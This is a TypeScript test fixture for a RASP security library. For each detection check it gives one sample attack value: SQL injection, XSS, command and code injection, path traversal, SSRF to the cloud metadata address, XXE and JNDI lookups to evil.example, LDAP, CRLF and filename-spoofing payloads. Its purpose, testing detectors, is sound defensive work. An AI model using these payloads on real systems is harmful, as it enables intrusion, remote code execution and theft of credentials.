import type { CheckId, InputSource, Parameters } from '@rasp/core';

/** A value that one check finds wherever it stands. */
export interface ValuePayload {
  readonly check: CheckId;
  readonly value: string;
  /** What the configuration must declare for the check to have something to judge by. */
  readonly config?: Partial<Parameters>;
  /** Places where the check does not look, on purpose; its page says why. */
  readonly unseen?: readonly InputSource[];
  /** Places whose encoding cannot carry the value. */
  readonly undelivered?: readonly InputSource[];
}

/** One value for each check that judges values. None holds a character that a header, a cookie or a file name cannot carry. */
export const valuePayloads: readonly ValuePayload[] = [
  { check: 'sqli', value: '1 UNION SELECT login FROM accounts' },
  { check: 'xss', value: '<svg onload=alert(document.domain)>' },
  { check: 'command', value: '$(cat /etc/hosts)' },
  { check: 'traversal', value: '../../../../etc/hosts' },
  { check: 'code', value: "require('child_process').execSync('id')" },
  { check: 'nosql', value: 'user[$ne]' },
  { check: 'ssti', value: '{{ config.items() }}' },
  {
    check: 'ssrf',
    value: 'http://169.254.169.254/latest/meta-data/',
    unseen: ['path', 'header-value', 'multipart-filename', 'query-name', 'json-key', 'form-name'],
  },
  { check: 'xxe', value: "<!DOCTYPE a SYSTEM 'http://evil.example/a.dtd'>" },
  { check: 'prototype-pollution', value: '__proto__[admin]' },
  { check: 'jndi', value: '$' + '{jndi:ldap://evil.example/a}' },
  { check: 'ldap', value: '*)(uid=*))(|(uid=*' },
  { check: 'crlf', value: 'en%0d%0aSet-Cookie:%20admin=1' },
  {
    check: 'characters',
    value: 'invoice\u202efdp.exe',
    config: { SECURITY_CHECKS: { characters: 'block' } },
    // Headers are Latin-1.
    undelivered: ['header-value', 'cookie-value'],
  },
];
